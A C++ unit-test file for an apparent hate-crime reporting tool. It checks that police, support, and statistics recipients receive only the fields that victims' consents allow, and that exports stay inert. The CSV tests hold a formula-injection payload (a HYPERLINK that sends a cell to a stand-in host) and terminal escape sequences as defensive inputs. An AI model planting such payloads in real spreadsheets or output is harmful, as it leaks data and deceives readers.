// The consent table (hrc/recipients.h): every schema field has a rule for every recipient; each
// recipient's view of a report holds exactly what the table and the person's consents allow, for
// every combination of the four consents; CSV and JSON output stays inert.
#include <set>

#include <catch2/catch.hpp>

#include "hrc/recipients.h"
#include "hrc/report.h"

#include "recipient_check.h"
#include "test_support.h"

using hrc::Recipient;

namespace {

nlohmann::json example_json() {
    return nlohmann::json::parse(
        hrc_test::read_file(std::string(HRC_SOURCE_DIR) + "/docs/examples/report.json"));
}

hrc::Report example_report() {
    hrc::DecodeResult d = hrc::decode_report(example_json());
    REQUIRE(d.problems.empty());
    return *d.report;
}

// One consent slot: absent, given or refused.
std::optional<hrc::Consent> consent(int state, const char* wording) {
    if (state == 0) return std::nullopt;
    return hrc::Consent{state == 1 ? hrc::ConsentDecision::given : hrc::ConsentDecision::refused,
                        wording};
}

} // namespace

TEST_CASE("recipients: the table names every field of the schema exactly once", "[recipients]") {
    // docs/examples/report.json has every field but `about.anonymous`, which JSON carries only when true.
    hrc::Report every_field = example_report();
    every_field.about.anonymous = true;
    const auto leaves = hrc_test::leaves_of(hrc::to_json(every_field));
    std::set<std::string> in_table;
    for (const auto& f : hrc::recipient_fields()) {
        INFO(f.pointer);
        CHECK(in_table.insert(std::string(f.pointer)).second); // no field twice
        CHECK(leaves.count(std::string(f.pointer)) == 1);      // no stale row
    }
    for (const auto& [pointer, value] : leaves) {
        INFO(pointer);
        CHECK(in_table.count(pointer) == 1); // no field without a rule
    }
}

TEST_CASE(
    "recipients: what statistics and Victim First get never includes free text about the incident",
    "[recipients]") {
    for (const char* free_text : {"/description", "/other_difference", "/what_happened_other",
                                  "/where/address", "/where/place_other", "/offenders/description",
                                  "/harm/injury_details", "/harm/witness_details"}) {
        INFO(free_text);
        for (const auto& f : hrc::recipient_fields())
            if (f.pointer == free_text) {
                CHECK(f.statistics == hrc::FieldRule::omitted);
                CHECK(f.victim_first == hrc::FieldRule::omitted);
            }
    }
    for (const auto& f : hrc::recipient_fields())
        if (std::string_view(f.pointer).substr(0, 7) == "/about/") {
            INFO(f.pointer);
            CHECK(f.statistics == hrc::FieldRule::omitted);
            if (f.pointer != "/about/anonymous" && f.pointer != "/about/age_band")
                CHECK(f.police == hrc::FieldRule::if_police_contact);
        }
}

TEST_CASE("recipients: every combination of the four consents gives each recipient exactly what "
          "the table says",
          "[recipients]") {
    const hrc::Report base = example_report();
    int combinations = 0;
    for (int police = 0; police < 3; ++police)
        for (int contact = 0; contact < 3; ++contact)
            for (int support = 0; support < 3; ++support)
                for (int stats = 0; stats < 3; ++stats) {
                    hrc::Report r = base;
                    r.consents.share_with_police = consent(police, "share-police/1");
                    r.consents.police_may_contact = consent(contact, "police-contact/1");
                    r.consents.support_referral = consent(support, "victim-first/1");
                    r.consents.anonymous_statistics = consent(stats, "statistics/1");
                    const nlohmann::json full = hrc::to_json(r);
                    for (Recipient who : hrc::all_recipients()) {
                        const auto view = hrc::recipient_view(who, r, 1743098700);
                        INFO(hrc::to_string(who)
                             << " consents " << police << contact << support << stats);
                        CHECK(hrc_test::differences_from_table(who, full, view ? &*view : nullptr)
                                  .empty());
                    }
                    ++combinations;
                }
    CHECK(combinations == 81);
}

TEST_CASE("recipients: police without contact consent get no contact details, statistics get "
          "months and a sector",
          "[recipients]") {
    hrc::Report r = example_report();
    r.consents.police_may_contact = hrc::Consent{hrc::ConsentDecision::refused, "police-contact/1"};
    const auto police = hrc::recipient_view(Recipient::police, r, 1743098700);
    REQUIRE(police);
    CHECK_FALSE(police->contains("/about/name"_json_pointer));
    CHECK_FALSE(police->contains("/about/phone"_json_pointer));
    CHECK(police->at("/description"_json_pointer) == *r.description);
    CHECK(police->at("/received_at"_json_pointer) == "2025-03-27T18:05:00Z");

    const auto stats = hrc::recipient_view(Recipient::statistics, r, 1743098700);
    REQUIRE(stats);
    CHECK(stats->at("/where/postcode"_json_pointer) == "LE4 5");
    CHECK(stats->at("/when/date/date"_json_pointer) == "2025-03");
    CHECK(stats->at("/created_at"_json_pointer) == "2025-03");
    CHECK(stats->at("/received_at"_json_pointer) == "2025-03");
    CHECK_FALSE(stats->contains("/reference"_json_pointer));
    CHECK_FALSE(stats->contains("/report_id"_json_pointer));

    r.consents.anonymous_statistics = hrc::Consent{hrc::ConsentDecision::refused, "statistics/1"};
    CHECK_FALSE(hrc::recipient_view(Recipient::statistics, r, 1743098700));
    r.consents.share_with_police.reset();
    CHECK_FALSE(hrc::recipient_view(Recipient::police, r, 1743098700));
    CHECK(hrc::recipient_view(Recipient::team, r, 1743098700));
}

TEST_CASE("recipients: police CSV columns come from the view, with ONS codes, strand flags and a "
          "normalised postcode",
          "[recipients]") {
    hrc::Report r = example_report();
    r.where.postcode = "le45at";
    const auto view = hrc::recipient_view(Recipient::police, r, 1743098700);
    REQUIRE(view);
    const auto& columns = hrc::recipient_csv_columns(Recipient::police);
    const auto cells = hrc::recipient_csv_cells(Recipient::police, *view);
    REQUIRE(cells.size() == columns.size());
    std::map<std::string, std::string> row;
    for (std::size_t i = 0; i < columns.size(); ++i)
        row[columns[i]] = cells[i];
    CHECK(row["district_name"] == "Leicester");
    CHECK(row["district_ons_code"] == "E06000016");
    CHECK(row["postcode"] == "LE4 5AT");
    CHECK(row["postcode_as_given"].empty());
    CHECK(row["strand_race"] == "yes");
    CHECK(row["strand_disability"] == "no");
    CHECK(row["strand_other"] == "yes");
    CHECK(row["date_kind"] == "range");
    CHECK(row["date_from"] == "2025-03-20");
    CHECK(row["date_to"] == "2025-03-26");
    CHECK(row["contact_allowed"] == "yes");
    CHECK(row["phone"] == "0116 454 1234");
    CHECK(row["consent_share_with_police"] == "given (share-police/1)");
    CHECK(row["easy_read"] == "yes");

    r.consents.police_may_contact = hrc::Consent{hrc::ConsentDecision::refused, "police-contact/1"};
    r.where.postcode = "+1";
    r.easy_read = false;
    const auto no_contact = hrc::recipient_view(Recipient::police, r, 1743098700);
    const auto cells2 = hrc::recipient_csv_cells(Recipient::police, *no_contact);
    for (std::size_t i = 0; i < columns.size(); ++i)
        row[columns[i]] = cells2[i];
    CHECK(row["contact_allowed"] == "no");
    CHECK(row["easy_read"] == "no"); // absent from the report: the full path
    for (const char* c : {"name", "phone", "email", "contact_address", "safe_contact_times",
                          "interpreter_language", "access_needs"}) {
        INFO(c);
        CHECK(row[c].empty());
    }
    CHECK(row["postcode"].empty());
    CHECK(row["postcode_as_given"] == "+1");
    CHECK(hrc::csv_cell(row["postcode_as_given"]) == "\"'+1\"");
}

TEST_CASE("recipients: CSV cells never run as formulas and carry no control characters",
          "[recipients]") {
    CHECK(hrc::csv_cell("=HYPERLINK(\"http://x/?\"&A1,\"Click\")") ==
          "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\"");
    CHECK(hrc::csv_cell("+1") == "\"'+1\"");
    CHECK(hrc::csv_cell("-2+3") == "\"'-2+3\"");
    CHECK(hrc::csv_cell("@SUM(A1)") == "\"'@SUM(A1)\"");
    CHECK(hrc::csv_cell("\t=1") ==
          "\"\xEF\xBF\xBD=1\""); // a leading tab becomes U+FFFD, so nothing leads with '='
    CHECK(hrc::csv_cell("\r=1") == "\"\n=1\"");
    CHECK(hrc::csv_cell("plain, text") == "\"plain, text\"");
    CHECK(hrc::csv_cell("red \x1b[31mtext") == "\"red \xEF\xBF\xBD[31mtext\"");
    CHECK(hrc::csv_cell("c1 \xC2\x9B"
                        "31m") == "\"c1 \xEF\xBF\xBD"
                                  "31m\"");
    CHECK(hrc::csv_cell("bad \xFF byte") == "\"bad \xEF\xBF\xBD byte\"");
    CHECK(hrc::csv_cell("line one\r\nline two") == "\"line one\nline two\"");
    CHECK(hrc::csv_cell("ગુજરાતી اردو") == "\"ગુજરાતી اردو\"");
    CHECK(hrc::csv_line({"a", "=b"}) == "\"a\",\"'=b\"\r\n");
}

TEST_CASE("recipients: JSON text escapes C1 controls and still holds the same value",
          "[recipients]") {
    const nlohmann::json j = {{"description", "csi \xC2\x9B"
                                              "2J and \x1b[0m and ગુજરાતી"}};
    const std::string text = hrc::inert_json_text(j);
    CHECK(text.find("\xC2\x9B") == std::string::npos);
    CHECK(text.find('\x1b') == std::string::npos);
    CHECK(text.find("\\u009b") != std::string::npos);
    CHECK(nlohmann::json::parse(text) == j);
}

TEST_CASE("recipients: districts carry their ONS codes, postcode sectors", "[recipients]") {
    CHECK(hrc::district_info(hrc::District::hinckley_and_bosworth).ons_code == "E07000132");
    CHECK(hrc::district_info(hrc::District::rutland).ons_code == "E06000017");
    CHECK(hrc::district_info(hrc::District::online).ons_code.empty());
    CHECK(hrc::postcode_sector("le1 5fq") == std::optional<std::string>("LE1 5"));
    CHECK(hrc::postcode_sector("LE11 3TU") == std::optional<std::string>("LE11 3"));
    CHECK_FALSE(hrc::postcode_sector("+1"));
    CHECK(hrc::recipient_from_string("victim-first") == Recipient::victim_first);
    CHECK_FALSE(hrc::recipient_from_string("police "));
}

TEST_CASE("recipients: docs/recipients.md shows the table in code, row by row", "[recipients]") {
    const std::string doc =
        hrc_test::read_file(std::string(HRC_SOURCE_DIR) + "/docs/recipients.md");
    for (const auto& f : hrc::recipient_fields()) {
        const std::string row = "| `" + std::string(f.pointer) + "` | " +
                                std::string(hrc::to_string(f.police)) + " | " +
                                std::string(hrc::to_string(f.victim_first)) + " | " +
                                std::string(hrc::to_string(f.statistics)) + " |";
        INFO(row);
        CHECK(doc.find(row) != std::string::npos);
    }
    // And no row in the document that the code does not have.
    std::size_t rows = 0;
    for (std::size_t at = doc.find("\n| `/"); at != std::string::npos;
         at = doc.find("\n| `/", at + 1))
        ++rows;
    CHECK(rows == hrc::recipient_fields().size());
}
